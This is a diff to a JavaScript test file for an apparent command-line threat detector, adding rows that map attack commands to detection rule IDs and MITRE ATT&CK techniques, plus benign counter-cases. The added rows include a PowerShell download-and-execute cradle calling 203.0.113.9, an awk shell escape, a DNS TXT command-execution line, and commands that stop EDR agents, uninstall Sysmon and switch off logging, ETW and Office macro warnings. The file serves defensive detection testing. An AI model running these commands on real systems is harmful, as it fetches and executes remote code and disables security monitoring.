@@ -227,6 +227,17 @@ describe('technique shapes added for issue 11 (one per shape, each names its ATT
     ['ftp script', 'echo get p.exe >> f.txt && ftp -v -n -s:f.txt 203.0.113.9', 'ingress.staged_downloader', 'T1105'],
     ['dde', "=cmd|' /c powershell -nop -c calc'!A0", 'exec.dde', 'T1559.002'],
     ['sharpersist', 'SharPersist.exe -t schtask -c "C:\\x\\a.exe" -n upd -m add', 'tool.offensive_powershell', 'T1059.001'],
+    ['server xmlhttp cradle', "$x=New-Object -ComObject MsXml2.ServerXmlHttp;$x.Open('GET','http://203.0.113.9/a',$False);$x.Send();IEX $x.ResponseText", 'cradle.powershell', 'T1105'],
+    ['awk background shell', "awk 'BEGIN {system(\"/bin/sh &\")}'", 'exec.shell_escape', 'T1059.004'],
+    ['powersploit function', 'Install-SSP -Path C:\\x\\ssp.dll', 'tool.offensive_powershell', 'T1059.001'],
+    ['nimgrab', 'nimgrab.exe https://example.net/p.exe $env:TEMP\\p.exe', 'lolbin.download_helper', 'T1105'],
+    ['ads stream write', "Add-Content -Path .\\notes.txt -Value $payload -Stream 'cmd'", 'evasion.ads', 'T1564.004'],
+    ['iis logging off', 'appcmd.exe set config "Default Web Site" /section:httplogging /dontLog:true', 'evasion.audit_off', 'T1562.002'],
+    ['.NET ETW registry', 'reg add HKLM\\Software\\Microsoft\\.NETFramework /v ETWEnabled /t REG_DWORD /d 0', 'evasion.etw', 'T1562.006'],
+    ['edr stopped', 'sudo systemctl stop falcon-sensor.service', 'evasion.security_agent', 'T1562.001'],
+    ['sysmon uninstall', 'sysmon64.exe -u', 'evasion.security_agent', 'T1562.001'],
+    ['office macros on', 'reg add HKCU\\Software\\Microsoft\\Office\\16.0\\Excel\\Security /v VBAWarnings /t REG_DWORD /d 1 /f', 'evasion.office_security', 'T1562.001'],
+    ['dns txt command', 'powershell .(nslookup -q=txt cmd.example.net 8.8.8.8)[-1]', 'c2.dns_txt_exec', 'T1071.004'],
   ])('%s', (_n, text, id, tech) => {
     const f = technique(text, id);
     expect(f).toBeDefined();
@@ -269,6 +280,8 @@ describe('benign counter-cases for the added shapes stay at low or below', () =>
     ['dotfile sudo alias', "alias sudo='sudo '"],
     ['perl exec of sh -c', "exec '/bin/sh', '-c', \"exec $postgres $opts\" or die"],
     ['msbuild solution', 'msbuild.exe MyApp.sln /p:Configuration=Release'],
+    ['log shipper restart', 'sudo systemctl restart rsyslog'],
+    ['zone identifier read', 'Get-Content .\\setup.exe -Stream Zone.Identifier'],
     ['reflection read', "$v = $o.GetType().GetField('_items','NonPublic,Instance').GetValue($o)"],
     ['file server installer', 'Start-Process \\\\files.corp.example\\deploy\\agent.msi -ArgumentList /qn'],
   ])('%s', (_n, text) => {
